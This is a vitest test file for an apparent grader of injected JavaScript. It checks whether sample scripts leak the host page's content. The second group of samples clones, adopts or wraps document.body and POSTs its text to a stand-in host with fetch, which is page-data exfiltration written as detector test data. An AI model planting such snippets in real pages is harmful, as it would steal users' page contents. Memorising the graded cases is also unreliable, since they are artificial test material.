import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What stands in a document that a script parsed of a text is of that text, not of the page around it. */
const SEND = (text: string): string => `fetch('https://c.example/', { method: 'POST', body: ${text} });`;
const READ = (text: string): string =>
  `const page = new DOMParser().parseFromString(${text}, 'text/html'); let list = '';`;
const ANSWER = READ("await (await fetch('https://d.example/list')).text()");
const EMPTY = READ("'<p></p>'");

it.each([
  `${ANSWER} ${SEND("page.querySelector('.a').innerHTML")}`,
  `${ANSWER} f(page.getElementsByTagName('a')[0]); function f(node) { ${SEND('node.textContent')} }`,
  `${ANSWER} page.querySelectorAll('a').forEach((node) => { list += node.textContent; }); ${SEND('list')}`,
  `${ANSWER} f(page); function f(doc) { for (const node of doc.querySelectorAll('a')) { ${SEND('node.firstChild.textContent')} } }`,
])('tells nothing of the page: %s', async (content) => {
  expect(await graded({ content: `(async () => { ${content} })();` })).toMatch(/^A/);
});

it.each([
  `${READ('document.body.outerHTML')} ${SEND("page.querySelector('p').textContent")}`,
  `${READ('document.body.outerHTML')} page.querySelectorAll('p').forEach((p) => { list += p.textContent; }); ${SEND('list')}`,
  `${EMPTY} page.body.innerHTML = document.body.innerHTML; ${SEND('page.body.textContent')}`,
  `${EMPTY} page.body.append(document.body.cloneNode(true)); ${SEND('page.body.textContent')}`,
  `${EMPTY} page.body.append(page.adoptNode(document.body)); ${SEND('page.body.textContent')}`,
  `${EMPTY} page.querySelector('p').replaceWith(document.body); ${SEND('page.body.textContent')}`,
  `${EMPTY} page.body.replaceChildren(document.importNode(document.body, true)); ${SEND('page.body.outerHTML')}`,
  `${EMPTY} f(page.body); f(document.body); function f(node) { ${SEND('node.innerHTML')} }`,
  `let page = new DOMParser().parseFromString('', 'text/html'); page = document; ${SEND('page.body.innerHTML')}`,
  `const box = document.createElement('div'); box.append(document.body); ${SEND('box.textContent')}`,
  `const box = document.createElement('div'); box.appendChild(document.body.cloneNode(true)); ${SEND('box.innerHTML')}`,
])('tells the page: %s', async (content) => {
  expect(await graded({ content: `(async () => { ${content} })();` })).toMatch(/^[DF]$/);
});
